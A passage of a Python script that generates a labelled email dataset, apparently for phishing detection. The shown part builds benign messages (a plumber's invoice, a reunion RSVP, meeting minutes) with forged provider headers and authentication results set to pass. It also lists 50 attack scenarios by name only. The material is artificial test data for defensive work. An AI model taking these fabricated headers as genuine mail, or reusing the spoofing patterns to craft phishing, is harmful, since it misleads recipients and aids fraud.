            plain.replace("&", "&amp;").replace("\r\n\r\n", "<br><br>").replace("\r\n", "<br>") + '</div></body></html>\n')
    boundary = outlook_boundary(stem, "004", "EUR")
    body = Multi("mixed", boundary, [
        Multi("alternative", boundary.replace("_004_", "_000_"), [
            Leaf("text/plain", plain.encode("latin-1"), "quoted-printable", '; charset="iso-8859-1"'),
            Leaf("text/html", html.encode("latin-1"), "quoted-printable", '; charset="iso-8859-1"')]),
        attachment("application/pdf", f"{inv}.pdf", pdf)])
    head = f"""From: {addr("Mark Dunne", "mark@" + tenant)}
To: {addr("Gordon Whitlock", P)}
Subject: Invoice {inv} - boiler service, 14 Valley Drive
Thread-Topic: Invoice {inv} - boiler service, 14 Valley Drive
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {rfc(d)}
Message-ID: {outlook_msgid(stem, 'EUR')}
Accept-Language: en-GB, en-US
Content-Language: en-GB
{m365_tail(stem, tenant, d).replace('X-MS-Has-Attach: ', 'X-MS-Has-Attach: yes', 1)}
MIME-Version: 1.0
"""
    mail(stem, "clean", "One-to-one invoice from the recipient's local plumber (Microsoft 365 mailbox) with a PDF invoice "
         "giving bank details for payment by transfer: a genuine payment request.",
         to=P, at=at, ip=ip, rdns=host, helo=host, mailfrom="mark@" + tenant, spf="pass", from_dom=tenant,
         dkims=[(tenant, "selector1", "pass")], dmarc=("pass", "NONE"), head=head, body=body, hops=hops,
         sign=[(tenant, "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def l_uni_friend_reunion():
    stem = f"b{N}-legit-uni-reunion"
    at = "2025-04-02 20:47:15"
    d = when(at) - timedelta(seconds=2)
    sender = "tom.ashworth.69@gmail.com"
    ip, rdns, hops = gmail_out(stem, d)
    form = f"https://docs.google.com/forms/d/e/1FAIpQLS{rid(stem + 'f', 50, ALNUM + '-_')}/viewform"
    orig = (d - timedelta(days=3)).astimezone(LONDON)
    plain = f"""Gordon,

Brilliant, glad you can make it. I've booked the back room at the Eagle for the Saturday evening (21 June) and the college
is doing a tour of the new library in the afternoon for anyone who wants it.

Can you fill in this form so I know numbers and any dietary stuff? It's just a Google form, nothing fancy:
{form}

Also - do you still have Raj's email? The one I have bounces.

Tom

On {orig.strftime('%a, %d %b %Y at %H:%M')}, Gordon Whitlock <{C}> wrote:
> Tom, great idea - count me in for the reunion. June is fine, any weekend except
> the 14th. Is Anne welcome too?
>
> G
>
> On Sat, 29 Mar 2025 at 11:02, Tom Ashworth <{sender}> wrote:
>> Hi all, it's 35 years since we graduated (!) and a few of us thought we
>> should get together in Cambridge in June. Who's in?
"""
    html = ('<div dir="ltr"><div>Gordon,</div><div><br></div><div>Brilliant, glad you can make it. I&#39;ve booked the back room '
            'at the Eagle for the Saturday evening (21 June) and the college is doing a tour of the new library in the afternoon '
            'for anyone who wants it.</div><div><br></div><div>Can you fill in this form so I know numbers and any dietary '
            f'stuff? It&#39;s just a Google form, nothing fancy:</div><div><a href="{form}">{form}</a></div><div><br></div>'
            '<div>Also - do you still have Raj&#39;s email? The one I have bounces.</div><div><br></div><div>Tom</div></div><br>'
            f'<div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On {orig.strftime("%a, %d %b %Y at %H:%M")}, '
            f'Gordon Whitlock &lt;<a href="mailto:{C}">{C}</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px '
            '0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Tom, great idea - count me in for the reunion. '
            'June is fine, any weekend except the 14th. Is Anne welcome too?<br><br>G<br><br>On Sat, 29 Mar 2025 at 11:02, Tom '
            f'Ashworth &lt;{sender}&gt; wrote:<br><blockquote class="gmail_quote">Hi all, it&#39;s 35 years since we graduated (!) '
            'and a few of us thought we should get together in Cambridge in June. Who&#39;s in?</blockquote></blockquote></div>\n')
    prev = f"<{rid(stem + 'prev', 24, ALNUM)}@whitlock.me.uk>"
    first = gmail_msgid(stem + "first")
    head = f"""MIME-Version: 1.0
References: {first}
 {prev}
In-Reply-To: {prev}
From: {addr("Tom Ashworth", sender)}
Date: {rfc(d, LONDON)}
Message-ID: {gmail_msgid(stem)}
Subject: Re: 35 years on - Cambridge reunion?
To: {addr("Gordon Whitlock", C)}
"""
    body = Multi("alternative", f"000000000000{rid(stem + 'bd', 16)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="UTF-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')])
    mail(stem, "clean", "Reply in a thread from an old university friend to the alumni forwarding alias, organising a reunion "
         "and asking him to fill in a Google Forms RSVP.",
         to=C, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom="gmail.com",
         dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), head=head, body=body, hops=fix_to(hops, C),
         sign=[("gmail.com", "20230601", {"headers": "to:subject:message-id:date:from:in-reply-to:references\n\t :mime-version:from:to:cc:subject:date:message-id:reply-to"})])


def l_neighbour_minutes():
    stem = f"b{N}-legit-neighbour-minutes"
    at = "2025-09-23 19:34:02"
    d = when(at) - timedelta(seconds=3)
    sender = "paulinegrant@btinternet.com"
    doc = files.docx(["Valley Drive Residents' Association", "Minutes of meeting held 18 September 2025, Methodist Hall",
                      "Present: P Grant (chair), G Whitlock (treasurer), S Pearce, R Khan, J Ellis",
                      "1. Speed bumps: council survey scheduled for October.",
                      "2. Christmas lights: quotes from two suppliers, decision at next meeting.",
                      "3. Treasurer's report: balance GBP 612.40, subs due January.",
                      "Next meeting: 16 October 2025, 7.30pm"], "Minutes 18 Sept 2025", "Pauline Grant")
    plain = ("Hi Gordon,\n\nMinutes from last Thursday attached - could you check the treasurer's bit is right before I send them "
             "round to everyone? I wasn't sure whether the balance included the raffle money.\n\nThanks,\nPauline\n")
    html = ('<html><head></head><body><div style="font-family:Arial;font-size:10pt;">Hi Gordon,<br><br>Minutes from last Thursday '
            'attached - could you check the treasurer\'s bit is right before I send them round to everyone? I wasn\'t sure '
            'whether the balance included the raffle money.<br><br>Thanks,<br>Pauline</div></body></html>\n')
    body = Multi("mixed", f"----=_Part_{rid(stem + 'b1', 7, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
        Multi("alternative", f"----=_Part_{rid(stem + 'b3', 7, DIGITS)}_{rid(stem + 'b4', 9, DIGITS)}.{int(d.timestamp()) * 1000}", [
            Leaf("text/plain", plain.encode(), "7bit", "; charset=UTF-8"),
            Leaf("text/html", html.encode(), "7bit", "; charset=UTF-8")]),
        attachment("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "Minutes 18 Sept 2025.docx", doc)])
    head = f"""Date: {rfc(d, LONDON)}
From: {addr("Pauline Grant", sender)}
To: {addr("Gordon Whitlock", A)}
Message-ID: <{rid(stem + 'mid', 9, DIGITS)}.{rid(stem + 'mid2', 6, DIGITS)}.{int(d.timestamp()) * 1000}@btinternet.com>
Subject: Minutes - residents' meeting
MIME-Version: 1.0
X-Mailer: BT Email
"""
    mail(stem, "clean", "Neighbour's BT Internet email to the recipient's AOL address asking him to check residents' "
         "association minutes, with a plain .docx attached.",
         to=A, at=at, ip="213.120.69.98", rdns="sa-prd-fep-049.btinternet.com", helo="sa-prd-fep-049.btinternet.com",
         mailfrom=sender, spf="pass", from_dom="btinternet.com", dkims=[("btinternet.com", "btmx201904", "pass")],
         dmarc=("pass", "NONE"), head=head, body=body,
         sign=[("btinternet.com", "btmx201904", {"headers": "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"})])


# ---------------------------------------------------------------------------------------------------------------
# Main
# ---------------------------------------------------------------------------------------------------------------

ATTACKS = [
    a_quota_selfdomain, a_pending_messages, a_aol_password_expiry, a_cantab_revalidate, a_docusign_realtor,
    a_docusign_platform_callback, a_adobe_firebase, a_voicemail_html, a_efax_pdf, a_norton_callback, a_geeksquad_pdf,
    a_paypal_invoice, a_mcafee_sendgrid, a_amazon_callback, a_usps_redelivery, a_royalmail_fee, a_dhl_zip_exe,
    a_fedex_smuggling, a_ups_iso, a_chase_bing, a_wellsfargo_square, a_bofa_shortener, a_capitalone_qr_pdf,
    a_amex_mailgun, a_citi_doubleclick, a_barclays_wix, a_hsbc_slink, a_natwest_webapp, a_netflix_payment,
    a_spotify_gcs, a_outlook_mfa_qr, a_icloud_s3, a_appleid_edu, a_facebook_copyright, a_instagram_netlify,
    a_metamask_ipfs, a_ledger_seed, a_hmrc_wordpress, a_irs_zip_lnk, a_costco_survey, a_walmart_azure,
    a_sextortion, a_svg_remittance, a_inheritance, a_widow_donation, a_romance_opener, a_job_offer,
    a_onedrive_compromised, a_dropbox_platform, a_reply_chain_docm,
]

LEGIT = [
    l_google_security, l_microsoft_code, l_paypal_receipt, l_amazon_dispatched, l_royalmail_tracking,
    l_natwest_statement, l_barclaycard_due, l_netflix_price, l_apple_receipt, l_hmrc_message, l_docusign_solicitor,
    l_dropbox_share, l_onedrive_brother, l_facebook_comment, l_linkedin_jobs, l_guardian_newsletter,
    l_johnlewis_promo, l_groupsio_list, l_norton_genuine, l_paypal_request, l_friend_photos, l_sister_recipe,
    l_plumber_invoice, l_uni_friend_reunion, l_neighbour_minutes,
]


def main() -> None:
    for build in ATTACKS + LEGIT:
        build()
    stems = [stem for stem, _, _, _ in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [e for e in ENTRIES if "-phish-" in e[0]]
    legit = [e for e in ENTRIES if "-legit-" in e[0]]
    assert len(attacks) == 50 and len(legit) == 25, (len(attacks), len(legit))
    for stem, folder, _, _ in ENTRIES:
        assert folder in (("phishing", "malware") if "-phish-" in stem else ("clean", "bulk")), (stem, folder)
    for stem, _, _, raw in ENTRIES:
        check(stem, raw)

    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    lines = []
    counts: dict[str, int] = {}
    for stem, folder, desc, raw in ENTRIES:
        folder = REFILED.get(stem, folder)
        target = MAIL / folder / f"{stem}.eml"
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(raw)
        lines.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
        counts[folder] = counts.get(folder, 0) + 1
    MANIFEST.write_text("\n".join(lines) + "\n", encoding="utf-8")
    print(" ".join(f"{k}={v}" for k, v in sorted(counts.items())) + f" total={len(ENTRIES)}")


if __name__ == "__main__":
    main()
